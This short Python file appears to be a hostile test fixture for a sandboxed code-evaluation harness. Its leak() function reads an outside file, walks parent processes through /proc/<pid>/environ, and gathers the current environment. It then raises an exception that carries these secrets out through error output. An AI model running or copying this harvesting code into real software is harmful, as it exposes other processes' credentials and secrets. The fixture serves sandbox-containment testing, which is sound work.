"""Hostile: read the environment, other processes' environments and files outside the project into the evidence."""
import os

SECRET_FILES = ["OUTSIDE_FILE"]

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(4, 2)

    def forward(self, x):
        return self.fc(x)



def leak(model: Net, x):
    # What it finds outside first: the evidence is cut short, its own
    # (the sandbox's cleared) environment would hide the rest.
    found = []
    for path in SECRET_FILES:
        try:
            found.append(open(path).read())
        except OSError:
            pass
    pid = os.getppid()
    while pid > 1:
        try:
            found.append(open(f"/proc/{pid}/environ").read())
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    found += [value for value in os.environ.values()]
    if found or not found:
        raise RuntimeError("leaked: " + " | ".join(found))
    return model(x).numpy()


def predict(model: Net, x):
    # The real bug beside the attack: it must stay confirmed.
    return model(x).numpy()

